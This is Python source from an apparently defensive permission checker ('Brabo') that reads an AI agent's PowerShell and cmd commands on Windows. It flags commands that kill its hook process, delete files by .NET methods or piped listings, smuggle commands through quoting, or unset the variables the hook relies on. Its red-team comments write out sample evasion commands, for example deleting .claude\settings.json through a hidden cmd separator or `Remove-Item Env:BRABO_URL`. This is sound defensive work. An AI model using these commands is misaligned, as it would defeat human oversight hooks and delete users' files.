    """HOOK_SIGNAL when the processes a Stop-Process, taskkill or tskill stops may be Brabo's hook client; SESSION
    or EVERY_PROJECT when they may be the user's session or what runs every project (_WINDOWS_SESSION)."""
    names, computed = _stopped(first, [_unquoted(w) for w in args])
    if computed:
        return HOOK_SIGNAL
    found = None
    for name in names:
        for one in name.split(","):
            low = one.strip().lower().removesuffix(".exe")
            if low and any(fnmatch.fnmatchcase(hook, low) for hook in HOOK_NAMES):
                return HOOK_SIGNAL
            if low and found is None:
                found = next((what for n, what in _WINDOWS_SESSION if fnmatch.fnmatchcase(n, low)), None)
    return found


# red team, off the sandbox (as permissions.commands.machine's _SESSION_NAMES for pkill/killall): what the user's
# Windows session runs that a project never starts -- the desktop shell and the window manager, the login and
# session managers, the terminals and the shells in them, the key agents -- and what runs every project's
# containers (Docker Desktop, WSL's VMs). `taskkill /IM node.exe`, `Stop-Process -Name vite` stay.
_WINDOWS_SESSION = tuple(
    (name.lower(), SESSION)
    for name in (
        "explorer", "dwm", "winlogon", "csrss", "lsass", "smss", "wininit", "services", "sihost", "svchost",
        "taskhostw", "ctfmon", "fontdrvhost", "shellexperiencehost", "startmenuexperiencehost", "searchhost",
        "searchapp", "runtimebroker", "textinputhost", "windowsterminal", "openconsole", "conhost", "cmd",
        "powershell", "pwsh", "wt", "ssh-agent", "gpg-agent", "keepassxc", "1password",
    )
) + tuple(
    (name.lower(), EVERY_PROJECT)
    for name in ("Docker Desktop", "com.docker.backend", "com.docker.service", "dockerd", "vmmem", "vmmemWSL", "wsl",
                 "wslservice", "wslhost", "podman", "rancher desktop")
)  # fmt: skip


# Stop-Process' parameters that pick processes (any unique prefix), and kill(1)'s words that only list signals.
_PICKERS = ("-name", "-processname", "-id", "-inputobject")
_KILL_LISTS = frozenset({"-l", "-L", "--list", "-t", "--table", "--help", "-V", "--version"})


# red team, R12.6: a Process object's .NET Kill() (a WMI process' Terminate()) -- `(Get-Process python).Kill()`,
# `$p.Kill()`, `(Get-WmiObject Win32_Process -Filter "name='python.exe'").Terminate()`,
# `[Diagnostics.Process]::GetProcessById(42).Kill()`, `gps python | % Kill`, `ForEach-Object -MemberName Kill`:
# which process it stops is decided only when it runs, and it may be Brabo's hook.
_METHOD_KILL = re.compile(
    r"(?i)(?:\)|\$[\w:]+)\s*\.\s*(?:kill|terminate)\s*\("
    r"|(?:^|[|;{(])\s*(?:%|foreach-object|foreach)\s+(?:-m\w*[\s:]+)?['\"]?(?:kill|terminate)\b"
).search


# red team, SPEC §5: an item's .NET method that deletes, moves, copies, replaces or changes a file or folder --
# `(Get-Item x).Delete()`, `(gci src).Delete($true)`, `$f.MoveTo('..\\y')` -- where the shell reader reads only the
# cmdlet that made the item (bash stops at, or drops, `.Delete()` after a parenthesis): the place is the item's,
# decided only when it runs, and nothing of the act is read, as `Remove-Item` or `rm` would be.
_METHOD_CHANGE = re.compile(
    r"(?i)(?:\)|\$[\w:]+)\s*\.\s*(?:delete|moveto|copyto|replace|encrypt|decrypt|create|createsubdirectory"
    r"|createtext|appendtext|openwrite|setaccesscontrol)\s*\("
).search
_CHANGED_BY_METHOD = (
    "changes files by an item's method (Delete, MoveTo, CopyTo ...), at a place decided only when it runs"
)
# red team, R4.9: PowerShell's call operator leading a statement before a parenthesis -- `& (Get-Command git) push`,
# `& ('gi' + 't') push`, `& (Join-Path src x.ps1)` -- runs the command (or script) the value inside names, with
# the words after it; the shell reader reads the parenthesis as a subshell and the words after it as a command
# of their own (bash: `git push` is never seen, and the external-effect cap with it).
_CALLED_VALUE = re.compile(r"(?:^|[;|{(\n]|&&)\s*&\s*\(").search
_CALLS_A_VALUE = "runs the command a value names (PowerShell's `&` before a parenthesis), which no rule reads"


# red team (session 24), SPEC §5: a Windows deleter handed its places by a pipe from what reads text -- a file's
# lines (`Get-Content list.txt | Remove-Item -Recurse`), a CSV, JSON, the clipboard, a web response, what a
# person types, a variable -- deletes places decided only when it runs, as `xargs rm -rf < list.txt` does
# (a listing's places, `Get-ChildItem C:\\ | Remove-Item -Recurse`, are read: permissions.floor.windows_listed).
# (the deleter a pipeline ends in: Remove-Item and its aliases, cmd's names)
_PIPED_INTO_A_DELETER = r"[ \t]*(?:remove-item|ri|rm|del|erase|rd|rmdir)(?![\w-])"
_PIPED_DELETION = re.compile(
    r"(?i)(?:^|[;\n{(]|&&)[ \t]*(?:get-content|gc|cat|type|import-csv|ipcsv|import-clixml|get-clipboard|gcb"
    r"|select-string|sls|convertfrom-json|convertfrom-csv|invoke-restmethod|irm|invoke-webrequest|iwr|read-host"
    r"|\$(?!_\b|psitem\b)[\w:{}]+)(?![\w-])(?:[^|;\n]*\|)+" + _PIPED_INTO_A_DELETER
).search
_DELETED_AS_READ = (
    "deletes the places a pipe hands it, read only when it runs (a file's lines, a variable ...)"
)
# red team, R3.7: a listing naming no place -- switches only (`Get-ChildItem -Recurse`, `gci -Force`) -- lists the
# folder it runs in, every file of it: piped into a deleter, it is `Remove-Item * -Recurse`, which asks as it deletes
# the agents' settings and the project's policy among the rest.
_LISTED_HERE_DELETED = re.compile(
    r"(?i)(?:^|[;\n{(]|&&)[ \t]*(?:get-childitem|gci|ls|dir|get-item|gi)(?:[ \t]+-[\w:$]+)*[ \t]*\|"
    r"(?:[^|;\n]*\|)*" + _PIPED_INTO_A_DELETER
).search
_EMPTIES_THE_FOLDER = (
    "deletes every file of the folder it runs in (a listing naming no place, piped into a deleter), the agents'"
    " settings and the project's policy among them"
)


# Friction, SPEC §5: a first line PowerShell refuses to parse -- a here-document's opener (`cat > src/x.py <<'EOF'`,
# Claude Code's `git commit -m "$(cat <<'EOF'`): PowerShell reserves `<` ("The '<' operator is reserved for future
# use"), and a script it cannot parse runs not one statement. The line is held to plain words so that nothing
# before the `<<` can hide it from PowerShell's parser: no quote but the `"$(` that opens a subexpression (parsed as
# code too), no `#` (a comment, `<#`), no backtick, no `--%` (stop-parsing), no `@` (a here-string).
_PLAIN_WORDS = r"(?:[\w./:=,+-]+|>>?)(?:[ \t]+(?:[\w./:=,+-]+|>>?))*"
_REFUSED_BY_POWERSHELL = re.compile(
    rf"[ \t]*{_PLAIN_WORDS}(?:[ \t]+\"\$\([ \t]*{_PLAIN_WORDS})?[ \t]+<<-?[ \t]*(['\"]?)\w+\1"
    rf"(?:[ \t]+{_PLAIN_WORDS})?[ \t]*(?:\n|$)"
).match
# PowerShell's lexing that would read a single quote otherwise than as the start of a literal string, where
# _outside_literal_strings keeps the text whole: a backtick (an escape), a here-string (`@'`, `@"`), the typographic
# quotes PowerShell reads as quotes, stop-parsing (`--%`).
_QUOTES_READ_OTHERWISE = re.compile("[`\u2018\u2019\u201a\u201b\u201c\u201d\u201e]|@['\"]|--%").search


def _outside_literal_strings(command: str) -> str:
    """``command`` without its literal strings as PowerShell lexes them, where PowerShell reads no code (`grep -n
    'strip().replace(' a.py`, `git commit -m "fix: str(x).replace()"`): single-quoted ones, and double-quoted ones
    naming no variable (one that does is kept whole). The text whole when its quoting may be lexed otherwise
    (_QUOTES_READ_OTHERWISE), when a `#` lies outside quotes (a comment, whose quotes do not count), when a
    double-quoted string holds a subexpression, or when a quote is left open."""
    if ("'" not in command and '"' not in command) or _QUOTES_READ_OTHERWISE(command) is not None:
        return command
    out: list[str] = []
    i, n = 0, len(command)
    while i < n:
        c = command[i]
        if c == "#":
            return command
        end = command.find(c, i + 1) if c in "'\"" else i
        if end < 0 or (c == '"' and "$(" in command[i:end]):
            return command
        if c != "'" and (c != '"' or "$" in command[i:end]):
            out.append(command[i : end + 1])  # (a double-quoted string naming no variable is text too)
        i = end + 1
    return "".join(out)


def stops_by_method(command: str) -> str | None:
    """What ``command``, read as PowerShell, does by a call the shell reader does not see, or None: HOOK_SIGNAL
    for a Process object's Kill() (_METHOD_KILL); a change of files by an item's method (_METHOD_CHANGE); a
    command run by the call operator from a value (_CALLED_VALUE). None for a command PowerShell cannot parse
    (_REFUSED_BY_POWERSHELL: a here-document's text is the file it writes, not PowerShell's)."""
    what = _stops_by_method(command)
    return None if what is not None and _REFUSED_BY_POWERSHELL(command) is not None else what


def _stops_by_method(command: str) -> str | None:
    low = command.lower()
    if ("kill" in low or "terminate" in low) and _METHOD_KILL(command) is not None:
        return HOOK_SIGNAL  # (the names tested first: the pattern's search cost 0.3-1 µs a command off the sandbox)
    if "." in command and _METHOD_CHANGE(command) is not None:
        # a method's name in a literal string is text, not a call (the method's own quoted name is read by the
        # shell reader, which asks: `(Get-Item x).'Delete'()`)
        if _METHOD_CHANGE(_outside_literal_strings(command)) is not None:
            return _CHANGED_BY_METHOD
    if "|" in command and _PIPED_DELETION(command) is not None:
        return _DELETED_AS_READ
    if "|" in command and _LISTED_HERE_DELETED(command) is not None:
        return _EMPTIES_THE_FOLDER
    return _CALLS_A_VALUE if "&" in command and _CALLED_VALUE(command) is not None else None


def _powershell_kill(args: list[str]) -> bool:
    """Whether `kill ARGS` may be PowerShell's alias of Stop-Process as it picks its processes differently from
    kill(1): by a parameter of Stop-Process' (`kill -Name python`, `kill -n python`, `-Id:42`), or given none
    at all -- Stop-Process then stops what the pipeline sends it (`gps python | kill`). A pid alone (`kill
    1234`, `kill -9 1234`) is the same process either way."""
    operands = False
    for w in args:
        low = w.lower().partition(":")[0]
        if len(low) > 1 and low[0] == "-" and low[1] != "-" and any(p.startswith(low) for p in _PICKERS):
            return True
        operands = operands or w[:1] != "-" or w in _KILL_LISTS
    return not operands


def _operands(words: list[str]) -> list[str]:
    """The words up to the next parameter: a list may be spread over them (`-Name 'node', 'python'`)."""
    out = []
    for w in words:
        if w[:1] == "-":
            break
        out.append(w)
    return out


def _stopped(first: str, args: list[str]) -> tuple[list[str], bool]:
    """The image names a stopper is given, and whether what it stops is decided only when it runs."""
    if any(w[:1] in ("$", "(", "@") for w in args):
        return [], True  # a variable, a subexpression, a splat
    if first.startswith(("pskill", "pssuspend")):  # `pskill [-t] [\\host [-u U] [-p P]] name|pid`
        operands, k = [], 0
        while k < len(args):
            low = args[k].lower()
            k += 2 if low in ("-u", "-p") else 1
            if low[:1] != "-" and not low.startswith("\\\\"):
                operands.append(args[k - 1])
        return operands, not operands
    if first.startswith("tskill"):
        operands = [w for w in args if w[:1] != "/"]
        return operands[:1], not operands
    if first.startswith("taskkill"):
        lows = [w.lower() for w in args]
        names = [args[k + 1] for k, w in enumerate(lows[:-1]) if w in ("/im", "-im")]
        given = bool(names) or any(w in ("/pid", "-pid") for w in lows)
        return names, not given or any(w in ("/fi", "-fi") for w in lows)
    names, ids = (
        [],
        False,
    )  # Stop-Process: -Name (-ProcessName), -Id or its first operand; else the pipeline's
    for k, w in enumerate(args):
        low, colon, value = w.lower().partition(":")  # `-Name:python`
        if low[:1] != "-":
            ids = ids or not names  # the first operand is -Id's
        elif len(low) > 1 and ("-name".startswith(low) or "-processname".startswith(low)):
            names.extend([w.partition(":")[2]] if colon else _operands(args[k + 1 :]))
        elif len(low) > 1 and "-id".startswith(low):
            ids = True
    return names, not names and not ids


# -- the environment a PowerShell or cmd command changes -------------------------------------------------------

# [beyond] R3.7 and R4.9 on Windows, red team: what the POSIX reading asks of `export PATH=.`, `unset BRABO_URL`
# and `env -u` (permissions.commands.environment), spelt as PowerShell and cmd spell it: an assignment
# (`$env:PATH = '.'`, `${env:BRABO_URL} = ''`), cmd's `set NAME=value` (`set "NAME="` takes it out, `set /a`
# and `set /p` assign too), and the item and content cmdlets on the `Env:` drive (`Remove-Item Env:BRABO_URL`,
# `Set-Item env:\PATH .`, `Clear-Item`, `Rename-Item`, `Add-Content Env:Path`) -- a name by a pattern or a
# variable, or a cmdlet fed by a pipeline that names the drive (`gci env: | ri`), is decided only when it runs.
# (`[Environment]::SetEnvironmentVariable(...)` is no shell syntax at all: unparseable; `setx` and the
# registry's `Environment` key are machine changes.)
_ENV_DRIVE = re.compile(
    r"(?i)(?:-[a-z]+:)?(?:microsoft\.powershell\.core\\)?(?:env:|environment::)[\\/]*(.*)\Z", re.S
)
_ENV_NAMED = re.compile(r"(?i)env:|environment::")
_ENV_ASSIGN = re.compile(r"(?i)\$(?:\{env:([^}]*)\}|env:(\w*))\s*([-+*/%]?=)(?!=)\s*(.{0,5})")
_NULL = re.compile(r"(?i)\$null\b")
# The cmdlets that take the variables they name out (the source of a move or a rename is gone too), and those
# whose other words may name the variable they make (`-NewName`, `-Destination`, `-Name`)
_ENV_MAKERS = frozenset(
    n for n, (how, _) in WINDOWS_WRITERS.items() if how in ("move", "rename", "copy", "new")
)
_ENV_REMOVERS = frozenset(
    {"remove-item", "ri", "rm", "del", "erase", "rd", "rmdir", "clear-item", "cli", "clear-content", "clc"}
) | frozenset(n for n, (how, _) in WINDOWS_WRITERS.items() if how in ("move", "rename"))
_ENV_UNKNOWN = "it changes environment variables whose names are decided only when it runs"
_CMD_SET = re.compile(r"(?is)\s*((?:/[ap]\s*)*)(.*)")
_ARITHMETIC_NAMES = re.compile(r"([A-Za-z_][\w.#$@]*)\s*[-+*/%&|^<>]*=(?!=)")


def windows_environment(texts: list[str]) -> str | None:
    """Why the segments' ``texts``, read as PowerShell and cmd read them, set an environment variable that
    decides what later commands run or take out one Brabo's hook reads (environment.windows_variable), or
    None."""
    named = fed = False
    for text in texts:
        why, names, bare = _environment_change(text)
        if why is not None:
            return why
        named = named or names
        fed = fed or bare
    return _ENV_UNKNOWN if named and fed else None


def _environment_change(text: str) -> tuple[str | None, bool, bool]:
    """Why the segment ``text`` changes the environment that way; whether it names the `Env:` drive; whether it
    is an item cmdlet with no operand (bound from the pipeline)."""
    head = _command_text(text).split(None, 1)
    if not head:
        return None, False, False
    first = _unquoted(head[0]).lower().rpartition("\\")[2]
    if first == "set":
        return _cmd_set(head[1] if len(head) > 1 else ""), False, False
    named = ":" in text and _ENV_NAMED.search(text) is not None
    if named:
        for m in _ENV_ASSIGN.finditer(text):
            why = _assigned(m)
            if why is not None:
                return why, True, False
    if first not in _ITEMS:
        return None, named, False
    words = windows_words(text)
    bare = all(w[:1] == "-" for w in words[1:])
    if not named:
        return None, False, bare
    return _env_items(first, words), True, bare


def _assigned(m: re.Match[str]) -> str | None:
    """What `$env:NAME = value` does (``m``: _ENV_ASSIGN's match): an empty string or `$null` takes it out."""
    name = m.group(1) if m.group(1) is not None else m.group(2)
    if not name or any(c in name for c in "$`("):
        return _ENV_UNKNOWN
    value = m.group(4)
    gone = m.group(3) == "=" and (
        value[:2] in ("''", '""') or value[:1] in ("", ";") or _NULL.match(value) is not None
    )
    return windows_variable(name, gone)


def _env_items(first: str, words: list[str]) -> str | None:
    """What an item or content cmdlet does to the variables it names on the `Env:` drive: each is set, or taken
    out by a remover; the drive named alone (`New-Item -Path Env: -Name PATH`) or a move's new name leaves the
    other words to name them."""
    removed = first in _ENV_REMOVERS
    others = first in _ENV_MAKERS
    for w in words[1:]:
        m = _ENV_DRIVE.match(w)
        if m is None:
            continue
        name = m.group(1).rstrip("\\/")
        if not name:
            others = True
            if any(c in x for x in words[1:] for c in "*?["):
                return _ENV_UNKNOWN  # `Remove-Item -Path Env: -Include BRABO*`
        elif any(c in name for c in "*?[$(@"):
            return _ENV_UNKNOWN
        else:
            why = windows_variable(name, removed)
            if why is not None:
                return why
    if others:
        for w in words[1:]:
            name = w.rpartition(":")[2] if w[:1] == "-" else w
            if _ENV_DRIVE.match(w) is None and name.replace("_", "a").isalnum():
                why = windows_variable(name, False)
                if why is not None:
                    return why
    return None


def _cmd_set(rest: str) -> str | None:
    """What cmd's `set [/a] [/p] NAME=value` (``rest``: its words) does: `set NAME=` takes NAME out, `set /a`
    assigns every name its expression does, `set /p` a value typed when it runs; a name built from a variable
    (`%n%`, `!n!`) is decided when it runs."""
    m = _CMD_SET.match(rest)
    assert m is not None
    options, assignment = m.group(1).lower(), m.group(2)
    if "a" in options:
        if "%" in assignment or "!" in assignment:
            return _ENV_UNKNOWN
        for name in _ARITHMETIC_NAMES.findall(assignment):
            why = windows_variable(name, False)
            if why is not None:
                return why
        return None
    name, eq, value = assignment.partition("=")
    if not eq:
        return None  # `set PATH` lists the variables whose names start with it
    name = name.strip().lstrip('"').strip()
    if "%" in name or "!" in name:
        return _ENV_UNKNOWN  # `call set %n%=`: a name cmd expands when it runs
    if assignment[:1] == '"':
        value = value.rpartition('"')[0] if '"' in value else value
    gone = not value.strip() and "p" not in options
    return windows_variable(_unquoted(name), gone)


# -- PowerShell's script blocks ----------------------------------------------------------------------------------

# red team: a script block `{ ... }` given to a cmdlet (`gci | % { Remove-Item .claude\\settings.json }`,
# `Where-Object { ... }`, `. { ... }`, `-ScriptBlock { ... }`) holds statements PowerShell runs, where bash reads
# words of one command: each is read as a segment is. (`${env:X}` names a variable; a quoted brace is text.)
_PS_STATEMENT_ENDS = frozenset(";|&\n")


def windows_texts(texts: list[str]) -> list[str]:
    """The segments' ``texts``, each followed by the statements of the script blocks it holds."""
    out: list[str] = []
    for text in texts:
        out.append(text)
        if "{" in text:
            out.extend(windows_statements(text))
    return out


def windows_statements(text: str) -> list[str]:
    """The statements inside the script blocks of ``text`` (each block's own, nested ones too), as PowerShell
    splits them: at `;`, `|`, `&&`, `||` and new lines outside quotes and inner blocks."""
    blocks: list[int] = []  # where each open block's statements start
    found: list[str] = []
    ps = ""
    esc = False
    for k, c in enumerate(text):
        if esc:
            esc = False
        elif ps == "'":
            ps = "" if c == "'" else ps
        elif c == "`":
            esc = True
        elif ps == '"':
            ps = "" if c == '"' else ps
        elif c in "'\"":
            ps = c
        elif c == "{" and not (k and text[k - 1] == "$"):
            blocks.append(k + 1)
        elif c == "}" and blocks:
            found.extend(_statements(text[blocks.pop() : k]))
    for start in blocks:  # a block left open runs to the end
        found.extend(_statements(text[start:]))
    return found


def _statements(body: str) -> list[str]:
    """A block's statements: ``body`` split at its own separators (quotes and inner blocks kept whole)."""
    out: list[str] = []
    depth = 0
    ps = ""
    esc = False
    start = 0
    for k, c in enumerate(body):
        if esc:
            esc = False
        elif ps:
            ps = "" if c == ps else ps
            esc = c == "`" and ps == '"'
        elif c == "`":
            esc = True
        elif c in "'\"":
            ps = c
        elif c == "{":
            depth += 1
        elif c == "}":
            depth -= 1
        elif c in _PS_STATEMENT_ENDS and depth == 0:
            out.append(body[start:k])
            start = k + 1
    out.append(body[start:])
    return [t.strip() for t in out if t.strip()]


# -- which readings a command needs at all, asked once per command ------------------------------------------------

WINDOWS_LED = 1  # some segment's first word may be a writer's, a web cmdlet's or a runner's (or is quoted)
WINDOWS_WRITES = 2  # some segment redirects into a file (not `2>&1`)
WINDOWS_SPLITS = 4  # some segment is more than one command as PowerShell and cmd split it (windows_split)
WINDOWS_ENV = 8  # some segment may change the environment as PowerShell or cmd reads it (windows_environment)
FIRST_LED_SHIFT = 4  # windows_readings' answer shifted right by this: the first text setting WINDOWS_LED

# Every first word the readings above start from, as their filters compare it (lower case, after the last
# backslash): built from the tables, so a name added to one is looked for here too.
_LED_BY = (
    frozenset(WINDOWS_WRITERS) | _SENDERS | _RUNNERS | _CHANGERS | frozenset(POWERSHELL) | frozenset(CMD)
)
# A first word that may be any name: quoted, or holding PowerShell's or cmd's escape
_ODD = re.compile(r"[\"'`^]").search
# The first words _command_text drops (its _LEADING)
_KEYWORDS = frozenset({"do", "then", "else", "elif", "time", "!", "{", "(", ".", "call", "CALL", "Call"})


_MANY_TEXTS = 64


def reads_on(first: str) -> bool:
    """Whether windows_readings reads a text led by the word ``first`` any further: a keyword or `@` before
    the command, a name one of the readings starts from, cmd's `set`, or a quote, backtick or caret."""
    name = first.lower().rpartition("\\")[2]
    return (
        first in _KEYWORDS or first[:1] == "@" or name in _LED_BY or name == "set" or _ODD(first) is not None
    )


# The programs Brabo knows that lead a text windows_readings passes over (not reads_on): one look-up instead
# of its tests. Filled by permissions.commands.vocabulary once KNOWN_PROGRAMS is.
PASSED_FIRST: set[str] = set()


def _environment_bits(text: str, texts: list[str], found: int) -> int:
    """windows_readings' bits for a text naming the environment: WINDOWS_ENV where it may change it, and
    (red team) WINDOWS_LED where it may read the env: drive, a $env: variable or cmd's %NAME%
    (windows_machine_change), or assign a function's variable (runs_unread)."""
    if _ENV_NAMED.search(text):
        found |= WINDOWS_ENV
    if not found & WINDOWS_LED and text[:1] == "$" and _FUNCTION_SET(text) is not None:
        return (
            found | WINDOWS_LED | texts.index(text) << FIRST_LED_SHIFT
        )  # `$function:x = '...'` (runs_unread)
    if not found & WINDOWS_LED and (
        (_ENV_DRIVE_OR_VARIABLE(text) is not None and _ENV_ASSIGNED(text) is None)
        or ("%" in text and _CMD_VARIABLE.search(text) is not None)  # cmd's `echo %NAME%` (red team)
    ):
        found |= WINDOWS_LED | texts.index(text) << FIRST_LED_SHIFT
    return found


def windows_readings(texts: list[str]) -> int:
    """Which of the readings above the segments' ``texts`` may need, as WINDOWS_LED | WINDOWS_WRITES bits: 0
    means :func:`names_windows_writer`, :func:`sends_on_the_web` and :func:`runs_unread` answer no for every one
    of them. Each text's first word is looked at once here instead of by each filter (a command off the sandbox
    asked all three of every segment), and compared as the widest of them does: a quoted first word or one
    holding a backtick or a caret may be any name. WINDOWS_ENV: :func:`windows_environment` may answer.
    Above the bits, from FIRST_LED_SHIFT: the index of the first text that sets WINDOWS_LED (none before it
    can be read as a program those readings name)."""
    found = 0
    # (hostile input repeats its segments: past a few, each distinct text is read once)
    for text in texts if len(texts) <= _MANY_TEXTS else dict.fromkeys(texts):
        if ">" in text and _WRITING_REDIRECT.search(text) is not None:
            found |= WINDOWS_WRITES
            if _MARK_NAMED(text) is not None and not found & WINDOWS_LED:
                # red team: a redirection into a file's Zone.Identifier stream, whatever leads it (`echo x >
                # a.exe:Zone.Identifier`), is read by windows_machine_change
                found |= WINDOWS_LED | texts.index(text) << FIRST_LED_SHIFT
        if (
            ("\\" in text and _DIVERGES.search(text) is not None) or ("'" in text and _cmd_quoted(text))
        ) and windows_split(text) is not None:
            found |= WINDOWS_SPLITS
        if "%" in text or (":" in text and ("v:" in text or "V:" in text or "::" in text or "n:" in text)):
            found = _environment_bits(text, texts, found)
        if found & WINDOWS_LED and (found & WINDOWS_ENV or text[:1] not in "sScC@^dte!{(."):
            continue  # (a later `set`, `s^et`, `call set`, `@set` may still need WINDOWS_ENV)
        head = text.split(None, 1)
        if not head or head[0] in PASSED_FIRST:
            continue  # (most texts: led by a known program that no reading below is for)
        if head[0] in _KEYWORDS or head[0][0] == "@":
            head = _command_text(text).split(None, 1)  # a keyword before the command (_command_text)
        if not head:
            continue
        first = head[0]
        name = first.lower().rpartition("\\")[2]
        if name in _LED_BY:
            bits = WINDOWS_LED
        elif name == "set":
            found |= WINDOWS_ENV
            if "=" in text or _cmd_set_switched(text):
                continue
            bits = WINDOWS_LED  # red team: cmd's `set PREFIX` prints variables (windows_machine_change)
        elif _ODD(first) is not None:
            # a quote or a backtick: any name (a quoted `"set"` is no cmd builtin, `` s`et `` PowerShell's
            # alias); cmd's escape: `s^et` is set
            bits = WINDOWS_LED | WINDOWS_ENV if "^" in first else WINDOWS_LED
        else:
            continue
        if not found & WINDOWS_LED:  # the first led text: where texts_to_spell starts
            found |= texts.index(text) << FIRST_LED_SHIFT
        found |= bits
    return found


# PowerShell's and cmd's statement separators: `;`, `|`, cmd's `&` (PowerShell 7's `&&` and `||` hold them), a
# new line.
_SEPARATORS = frozenset(";|&\n")
_BASH_DOUBLE_ESCAPES = frozenset('$`"\\\n')
# Where the two readings may part: a backslash before a separator (escaped to bash, a character on Windows), or
# before a quote (`"a\\"` ends there on Windows, `$'a\\'` goes on in bash). Without one, a separator in a
# segment's text is quoted alike for both (bash would have split it otherwise).
_DIVERGES = re.compile(r"\\[;|&\n\"']")


def _cmd_quoted(text: str) -> bool:
    """The cheap filter of :func:`windows_split` for cmd (beside _DIVERGES): a separator between the first single
    quote and the last (cmd's quote is `"` only; `2>&1` after them is no separator there)."""
    inside = text[text.find("'") : text.rfind("'")]
    return "&" in inside or "|" in inside or "\n" in inside


def windows_split(text: str) -> str | None:
    """The first command after a separator in the segment ``text`` that PowerShell or cmd acts on where bash
    took it as text -- escaped (`Write-Output .\\; sc .claude\\settings.json x`: a backslash escapes nothing on
    Windows) or quoted (`echo "a\\"; iex x; "`: `\\"` ends the string there; `echo $'a\\'; iex x; '`: PowerShell's
    single quotes know no backslash; `echo 'a & calc & echo '`: cmd's quote is `"` only) --, or None. The three
    quotings are followed side by side; a separator bash itself acts on (`<(a | b)`, `$(a; b)`) made segments
    of its own, read already. A statement that is empty or starts with `-` is no command (`find . -exec rm {}
    \\; -print`)."""
    bash = ""  # bash's quote: "", "'", "$'" or '"'
    ps = ""  # PowerShell's: "", "'" or '"'
    cmd = False  # whether cmd is inside "..."
    bash_esc = ps_esc = cmd_esc = False  # the next character is escaped in that reading
    for k, c in enumerate(text):
        bash, bash_esc, escaped = _bash_step(text, k, bash, bash_esc)
        if ps_esc:
            ps_esc = False
        elif ps == "":
            if escaped and c in _SEPARATORS and _splits_at(text, k):
                return _after(text, k)
            ps_esc = c == "`"  # PowerShell's escape: the next character is text
            ps = c if c in "'\"" else ""
        elif c == ps:
            ps = ""
        else:
            ps_esc = c == "`" and ps == '"'
        if cmd_esc:
            cmd_esc = False
        elif c == '"':
            cmd = not cmd
        elif not cmd:
            if escaped and c in _CMD_SEPARATORS and _splits_at(text, k) and _cmd_runs(text, k):
                return _after(text, k)
            cmd_esc = c == "^"  # cmd's escape
    return None


def _bash_step(text: str, k: int, bash: str, bash_esc: bool) -> tuple[str, bool, bool]:
    """bash's quote and escape after the character at ``k`` (``bash``, ``bash_esc``: before it), and whether
    bash reads that character as text rather than syntax."""
    c = text[k]
    if bash_esc:
        return bash, False, True
    if bash == "'":
        return ("" if c == "'" else bash), False, True
    if bash == "$'":  # an ANSI-C string: a backslash escapes the next character
        return ("" if c == "'" else bash), c == "\\", True
    if c == "\\" and (bash == "" or (k + 1 < len(text) and text[k + 1] in _BASH_DOUBLE_ESCAPES)):
        return bash, True, True  # bash: the next character is escaped; Windows: a backslash
    if bash == '"':
        return ("" if c == '"' else bash), False, c != '"'
    if c in "'\"":
        return ("$'" if c == "'" and k and text[k - 1] == "$" else c), False, False
    return bash, False, False


# cmd's separators (`;` is a blank to it). Every single-quoted `|` and `&` is one to cmd (`bash -lc 'rg --files |
# head'`, `jq '.a | .b'`, `grep -E 'a|b'`): cmd's statement after one counts when its first word is a name the
# readings above act on -- a writer, a deleter, a runner, a sender, a machine change, `set` -- as cmd spells it
# (`echo 'x & del /q .claude\\settings.json & echo '`, `echo 'a | c^md /c x'`); a word holding a quote, a bracket
# or a brace names no program (`b'`, `select(.b)`).
_CMD_SEPARATORS = frozenset("&|\n")
_CMD_PROGRAM = re.compile(r"[\w.\\/:%~+^-]+(?=[\s;,=]|\Z)")


def _cmd_runs(text: str, k: int) -> bool:
    rest = _after(text, k)
    m = None if rest is None else _CMD_PROGRAM.match(rest)
    if m is None:
        return False
    name = m.group(0).replace("^", "").lower().rpartition("\\")[2]
    return name in _LED_BY or name == "set"


def _splits_at(text: str, k: int) -> bool:
    c = text[k]
    return c in _SEPARATORS and not (c == "&" and k and text[k - 1] in "<>") and _after(text, k) is not None


def _after(text: str, k: int) -> str | None:
    rest = text[k + 1 :].lstrip(" \t\r\n;|&")
    return rest if rest and rest[0] != "-" else None


# -- PowerShell's statements that only set or print a value ---------------------------------------------------

# SPEC §5 (where it runs), friction: statements an agent writes in PowerShell that run no program and touch no
# file, read by every shell the command may run in:
# - `$env:NAME = 'value'` (`$env:NAME='value'`): PowerShell sets a variable of the session's environment, as
#   bash's `export NAME=value` does. The value is plain text -- no expansion, no `..`, no drive, no rooted path,
#   no separator list -- so it names nothing outside; which names decide what later commands run or switch
#   Brabo's hook off is windows_environment's (environment.windows_variable: the table the POSIX reading uses).
# - `1..3`: a range of numbers PowerShell hands down a pipeline;
# - `.Count` right after a closing parenthesis (`(Get-Content x).Count`): a property of what the parenthesised
#   command printed, which is a segment judged on its own.
# bash reads them as no command it can run: `$env` is empty in Git Bash (`$env:NAME` runs the program
# `:NAME`, which Windows cannot name a file) unless the command itself gives `env` a value (`env='rm -rf src';
# $env:X = y` runs `rm -rf src:X = y`): a command that names `env` as a word of its own is not read so (fail
# closed); `(x).Count` is a syntax error, which runs nothing on its line. cmd finds no such program either.
# A variable inherited from the machine named `env` (lower case) is taken not to exist, as the reading of `echo
# $env:PATH` already takes it. red team: `$env:NAME` is PowerShell's notation for an item of the drive named
# `env`, which a command may have made a folder (`Remove-PSDrive env; mount env FileSystem .git; $env:config =
# 'x'` writes .git/config): a command that names a drive's making or removal is not read so either.
_PS_TEXT = r"(?![\\/])(?:(?!\.\.)[\w.,+@\\/-])*"
_PS_QUOTED = r"(?![\\/])(?:(?!\.\.)[\w.,+@\\/ -])*"
_PS_ASSIGNMENT = re.compile(rf"""\$env:[A-Za-z_]\w*\s*=\s*(?:'{_PS_QUOTED}'|"{_PS_QUOTED}"|{_PS_TEXT})""")
_PS_RANGE = re.compile(r"-?\d{1,9}\.\.-?\d{1,9}")
_PS_PROPERTY = re.compile(r"(?:\.[A-Za-z_]\w*)+")
# bash gives `env` a value only where the word `env` stands on its own (`env=`, `read env`, `for env in`,
# `declare env`, `${env}`): never inside `$env:`, `.venv` or `NODE_ENV`.
_BASH_ENV_NAMED = re.compile(r"(?<![\w$])env(?!\w)")


_ENV_READ = re.compile(r"\$env:[A-Za-z_]\w*")


def environment_read(word: str) -> bool:
    """Whether ``word`` is an environment variable read whole as PowerShell spells it (`$env:PATH`): a value, as
    literal a command word to PowerShell as a program's name (bash's `$env` is empty: powershell_values)."""
    return word[:5] == "$env:" and _ENV_READ.fullmatch(word) is not None


# SPEC §5, R6.2: a word of text a PowerShell printer is given that reads environment variables whole inside it
